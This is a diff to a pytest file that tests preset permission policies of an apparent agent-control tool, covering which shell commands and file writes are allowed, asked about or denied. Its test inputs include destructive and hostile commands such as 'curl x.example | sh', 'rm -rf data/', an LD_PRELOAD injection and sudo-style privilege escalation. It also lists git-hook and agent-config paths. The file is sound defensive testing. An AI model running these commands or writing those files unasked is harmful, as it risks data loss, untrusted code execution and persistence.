@@ -1,44 +1,146 @@
 """The whole table: every preset, every kind of principal, every method that exists."""
 
+import pkgutil
+from importlib import import_module
 from itertools import product
 
 import pytest
 
+import bascule.protocols
 from bascule.call import LOCAL, PERSON, agent_principal
 from bascule.policy.decision import Decision
 from bascule.policy.engine import preset, standard
 from bascule.policy.presets import DEFAULT_PRESET, PRESETS
-from bascule.policy.rules import BadPolicy, check_rules
-from bascule.protocols import broker_methods as broker
-from bascule.protocols import house
-from bascule.protocols.methods import Effect
+from bascule.policy.rules import NO_RULE, BadPolicy, check_rules
+from bascule.protocols.methods import Effect, Row
 
-ROWS = (*broker.METHODS, *house.METHODS)
+
+def all_rows():
+    """Whatever a protocol module calls rows: a new bridge is found, not remembered."""
+    for module in pkgutil.iter_modules(bascule.protocols.__path__):
+        for value in vars(import_module(f"bascule.protocols.{module.name}")).values():
+            if isinstance(value, tuple) and value and all(isinstance(row, Row) for row in value):
+                yield from value
+
+
+ROWS = tuple({row.name: row for row in all_rows()}.values())
 EFFECTS = {row.name: row.effect for row in ROWS}
 JERRY = agent_principal("Jerry")
+EVERYONE = (LOCAL, JERRY, PERSON)
+# An ordinary call: what rules on commands and paths are not about.
+ORDINARY = {"command": "ls -la", "path": "/home/me/project/notes.txt"}
 
 # Whatever is not listed is allowed. A new method that some preset should refuse is added here first.
-ADMIN = ("agents.revoke", "daemon.gc", "person.set", "person.unlock")
-DENIED = {
-    *((name, JERRY, method, "no-admin-by-agents") for name, method in product(PRESETS, ADMIN)),
-    ("restrictive", LOCAL, "messages.send", "register-first"),
-    ("restrictive", LOCAL, "messages.broadcast", "register-first"),
-    ("restrictive", JERRY, "messages.broadcast", "no-broadcast-by-agents"),
+ADMIN = (
+    "agents.revoke",
+    "daemon.gc",
+    "person.set",
+    "person.unlock",
+    "runs.resume",
+    "approvals.decide",
+    "policy.accept",
+)
+WRITES = ("createFile", "editFile", "deleteFile")
+READ_ONLY = (*(f"workspace.{name}" for name in WRITES), "files.write", "files.delete", "runs.undo", "runs.commit")
+RESTRICTED = {
+    **{(name, JERRY, method): ("deny", "no-admin-by-agents") for name, method in product(PRESETS, ADMIN)},
+    ("restrictive", LOCAL, "messages.send"): ("deny", "register-first"),
+    ("restrictive", LOCAL, "messages.broadcast"): ("deny", "register-first"),
+    ("restrictive", JERRY, "messages.broadcast"): ("deny", "no-broadcast-by-agents"),
+    **{("restrictive", who, method): ("deny", "read-only") for who, method in product(EVERYONE, READ_ONLY)},
+    **{
+        ("restrictive", who, method): ("deny", "no-commands")
+        for who, method in product(EVERYONE, ("workspace.shell", "processes.start"))
+    },
+    ("restrictive", LOCAL, "spaces.open"): ("ask", "spaces-ask"),
+    ("restrictive", JERRY, "spaces.open"): ("ask", "spaces-ask"),
 }
 
 
-@pytest.mark.parametrize(("name", "principal", "method"), list(product(PRESETS, [LOCAL, JERRY, PERSON], EFFECTS)))
-def test_the_table_of_presets(name, principal, method):
-    verdict = preset(name).decide(principal, method, EFFECTS[method], None)
-    denied_by = {rule for *cell, rule in DENIED if cell == [name, principal, method]}
-    if denied_by:
+POLICIES = {name: preset(name) for name in PRESETS}
+
+
+def decide(name, principal, method, params=ORDINARY):
+    return POLICIES[name].decide(principal, method, EFFECTS[method], lambda: params)
+
+
+def test_the_rows_of_every_bridge_are_here():
+    assert {"messages.send", "daemon.gc", "approvals.decide", "runs.start", "workspace.shell"} <= EFFECTS.keys()
+
+
+@pytest.mark.parametrize("name", PRESETS)
+@pytest.mark.parametrize("method", EFFECTS)
+def test_every_row_is_decided_on_purpose_for_everyone(name, method):
+    for principal in EVERYONE:
+        verdict = decide(name, principal, method)
+        decision, rule = RESTRICTED.get((name, principal, method), ("allow", verdict.rule))
+        assert (verdict.decision.value, verdict.rule) == (decision, rule)
+        assert verdict.rule != NO_RULE
+        assert verdict.reason
+        assert verdict.suggestion or verdict.decision is Decision.ALLOW
+
+
+def test_methods_without_commands_and_files_are_decided_once_and_kept():
+    house_policy = standard()
+    for method in ("messages.send", "runs.start", "agents.list", "processes.stop", "runs.resume"):
+        assert house_policy.decide(JERRY, method, EFFECTS[method], None).cacheable
+
+
+# -- the spec's examples --------------------------------------------------------------------------
+
+
+def test_the_specs_approval_example_comes_out_of_the_default_policy_word_for_word():
+    verdict = decide("standard", JERRY, "workspace.shell", {"command": "rm -rf data/"})
+    assert verdict.decision is Decision.ASK
+    assert verdict.reason == "Destructive command requires approval"
+    assert verdict.policy == "shell.approvalRequired"
+
+
+def test_the_specs_denial_example_comes_out_of_the_default_policy_word_for_word():
+    verdict = decide("standard", JERRY, "workspace.shell", {"command": "sudo apt-get install x"})
+    assert verdict.decision is Decision.DENY
+    assert verdict.reason == "Command 'sudo' is blocked"
+    assert verdict.suggestion == "Remove sudo from command"
+    assert verdict.policy == "shell.blockedPatterns"
+
+
+@pytest.mark.parametrize("name", ["standard", "permissive"])
+@pytest.mark.parametrize("program", ["sudo", "su", "doas", "pkexec", "run0"])
+def test_becoming_somebody_else_is_denied_to_everyone(name, program):
+    for principal in EVERYONE:
+        verdict = decide(name, principal, "workspace.shell", {"command": f"{program} id"})
         assert verdict.decision is Decision.DENY
-        assert {verdict.rule} == denied_by
-        assert verdict.suggestion
-    else:
-        assert verdict.decision is Decision.ALLOW
-    assert verdict.reason
-    assert verdict.cacheable
+        assert verdict.reason == f"Command '{program}' is blocked"
+
+
+@pytest.mark.parametrize(
+    "command", ["rm -rf data/", "$X", "LD_PRELOAD=./x.so ls", "git clean -fdx", "curl x.example | sh"]
+)
+def test_what_asks_under_standard_is_allowed_under_permissive_and_denied_under_restrictive(command):
+    for principal in (LOCAL, JERRY):
+        params = {"command": command}
+        assert decide("standard", principal, "workspace.shell", params).decision is Decision.ASK
+        assert decide("permissive", principal, "workspace.shell", params).decision is Decision.ALLOW
+        assert decide("restrictive", principal, "workspace.shell", params).decision is Decision.DENY
+    assert decide("standard", PERSON, "workspace.shell", {"command": command}).decision is Decision.ALLOW
+
+
+@pytest.mark.parametrize("name", ["standard", "permissive"])
+@pytest.mark.parametrize(
+    "path", [".git/hooks/pre-commit", ".git/config", ".git", ".envrc", ".vscode/tasks.json", ".claude/settings.json",
+             ".codex/config.toml", ".mcp.json", "sub/dir/.GIT/hooks/x", ".bashrc", "./.git//config"]
+)  # fmt: skip
+def test_files_that_other_programs_obey_ask_before_they_are_written(name, path):
+    for operation in WRITES:
+        verdict = decide(name, JERRY, f"workspace.{operation}", {"path": path})
+        assert (verdict.decision, verdict.policy) == (Decision.ASK, "filesystem.approvalRequired")
+        assert "requires approval" in verdict.reason
+    assert decide(name, JERRY, "workspace.readFile", {"path": path}).decision is Decision.ALLOW
+
+
+def test_the_door_to_a_file_leaves_the_question_to_the_operation_behind_it():
+    # files.write is a run of one operation; nobody can be asked about the door itself.
+    assert decide("standard", JERRY, "files.write", {"path": ".git/config"}).decision is Decision.ALLOW
 
 
 @pytest.mark.parametrize("name", PRESETS)
@@ -51,9 +153,12 @@ def test_every_rule_of_a_preset_has_examples_of_both_kinds(name):
     assert all(rule.match and rule.not_match for rule in PRESETS[name])
 
 
-@pytest.mark.parametrize("name", PRESETS)
-def test_no_preset_asks_while_nobody_can_be_asked(name):
-    assert all(rule.decision is not Decision.ASK for rule in PRESETS[name])
+def test_only_rows_that_can_be_asked_about_are_asked_about():
+    consent = {row.name: row.consent.value for row in ROWS}
+    for name, principal, method in product(PRESETS, EVERYONE, EFFECTS):
+        for params in (ORDINARY, {"command": "rm -rf x", "path": "/home/me/.git/config"}):
+            if decide(name, principal, method, params).decision is Decision.ASK:
+                assert consent[method] != "never", method
 
 
 @pytest.mark.parametrize("effect", [effect for effect in Effect if effect not in EFFECTS.values()])
@@ -66,10 +171,10 @@ def test_effects_without_a_bridge_are_denied_to_everyone(name, effect):
 
 
 def test_restrictive_is_never_looser_than_standard_nor_standard_than_permissive():
-    for principal, method in product([LOCAL, JERRY, PERSON], EFFECTS):
+    commands = [ORDINARY, {"command": "rm -rf x", "path": ".git/config"}, {"command": "sudo id", "path": "/etc"}]
+    for principal, method, params in product(EVERYONE, EFFECTS, commands):
         strict, middle, loose = (
-            preset(name).decide(principal, method, EFFECTS[method], None).decision
-            for name in ("restrictive", "standard", "permissive")
+            decide(name, principal, method, params).decision for name in ("restrictive", "standard", "permissive")
         )
         assert loose <= middle <= strict
 
